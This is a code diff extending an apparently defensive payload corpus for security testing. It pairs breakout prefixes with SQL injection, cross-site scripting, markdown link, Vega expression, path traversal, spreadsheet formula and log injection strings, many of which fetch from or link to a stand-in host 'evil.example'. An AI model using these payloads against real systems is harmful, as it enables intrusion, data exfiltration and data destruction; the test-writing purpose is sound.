@@ -1,4 +1,7 @@
-"""Texts that attack: what each would do if it were executed is named in `MARK`, so that a trace of it can be found."""
+"""Texts that attack: what each would do if it were executed is named in `MARK`, so that a trace of it can be found.
+
+Each kind is a list of its own shapes, and the ways to break out of a text joined with what would then be done.
+"""
 
 from itertools import product
 from urllib.parse import quote
@@ -133,7 +136,116 @@ LOGS = (
     "\u202eevil.example",
     "A" * 5000 + "evil.example",
 )
-BASE = (*SQL, *HTML, *MARKDOWN, *VEGA, *PATHS, *FORMULAS, *LOGS)
+JOINED = {
+    "sql": (
+        ("'", '"', "')", "'))", "`", "$$", "1", "856'", "E'\\\\'", "\u02bc", "\u2019", "%27", "';", "]"),
+        (
+            " or '1'='1",
+            " union all select 1, 2, 3 --",
+            "; delete from grades; --",
+            "; create table evil_example (x int); --",
+            " and 1 = cast((select count(*) from duckdb_tables()) as int) --",
+            "; load 'evil.example.so'; --",
+            " order by 99 --",
+            "; export database '/tmp/evil.example'; --",
+            "/**/or/**/1=1#",
+        ),
+    ),
+    "html": (
+        ("", '">', "'>", "</td>", "</textarea>", "-->", "<svg>", "\u003c!--"),
+        (
+            "<img src=x onerror=fetch('//evil.example')>",
+            "<svg/onload=fetch('//evil.example')>",
+            "<video><source onerror=fetch('//evil.example')>",
+            "<input autofocus onfocus=fetch('//evil.example')>",
+            '<a href="java\tscript:fetch(1)">evil.example</a>',
+            "<iframe srcdoc='<script>evil.example</script>'>",
+            "<script>evil.example</script >",
+            "<ScRiPt src=//evil.example>",
+            "<template><script>evil.example</script></template>",
+            "<b style='background:url(//evil.example)'>",
+            "<embed src=//evil.example>",
+        ),
+    ),
+    "markdown": (
+        ("", "Kent ", "**", "> ", "1. ", "\\", "\n\n"),
+        (
+            "[x](//evil.example)",
+            "[x](<https://evil.example>)",
+            "[x](data:text/html,evil.example)",
+            "![](https://evil.example/a.gif)",
+            "[x][y]\n\n[y]: https://evil.example",
+            "http://evil.example/?a=(b)",
+            "ftp://evil.example",
+            "mailto:x@evil.example",
+            "$\\url{https://evil.example}$",
+            ":material/evil.example:",
+            "<a@evil.example>",
+        ),
+    ),
+    "vega": (
+        ("", "datum.", "'+", "']+", "if(1,", "${", "event.", "\\x27+"),
+        (
+            "constructor.constructor('return fetch')()",
+            "__proto__.polluted='evil.example'",
+            "open('//evil.example')",
+            "globalThis['fetch']('//evil.example')",
+            "data('evil.example')",
+            "modify('evil.example', true)",
+            "import('//evil.example')",
+            "a[`constructor`]",
+        ),
+    ),
+    "paths": (
+        ("../", "..\\", "..%2f", "..%252f", "..%c0%af", "/", "./.././", "....//", "%2e%2e/"),
+        (
+            "etc/passwd",
+            "proc/self/environ",
+            "config.yaml",
+            ".store/log.jsonl",
+            "app.py",
+            "etc/passwd\0.csv",
+            ".git/config",
+        ),
+    ),
+    "formulas": (
+        ("=", "+", "-", "@", "\t=", "\r\n=", "\uff1d", '"=', ";=", "\u00a0="),
+        (
+            'HYPERLINK("https://evil.example")',
+            "cmd|'/c evil.example'!A1",
+            'IMPORTDATA("https://evil.example")',
+            "1+1",
+            "SUM(1)*cmd|' evil.example'!A0",
+            'IMAGE("https://evil.example/a.png")',
+        ),
+    ),
+    "logs": (
+        (
+            "\n",
+            "\r",
+            "\r\n",
+            "\x0b",
+            "\x0c",
+            "\x1c",
+            "\u2028",
+            "\u2029",
+            "\x85",
+            "\x1b[31m",
+            "\x9b",
+            "\0",
+            "%0a",
+            "\\n",
+        ),
+        (
+            '{"level": "error", "event": "evil.example"}',
+            "GET /evil.example HTTP/1.1",
+            "Set-Cookie: evil.example",
+            "%(x)s {x}",
+        ),
+    ),
+}
+BUILT = tuple(first + then for firsts, thens in JOINED.values() for first, then in product(firsts, thens))
+BASE = tuple(dict.fromkeys((*SQL, *HTML, *MARKDOWN, *VEGA, *PATHS, *FORMULAS, *LOGS, *BUILT)))
 WAYS = (str, lambda text: f"856{text}", lambda text: f"{text},894", quote, lambda text: text.upper())
 ALL = tuple(dict.fromkeys(way(text) for text, way in product(BASE, WAYS)))
 
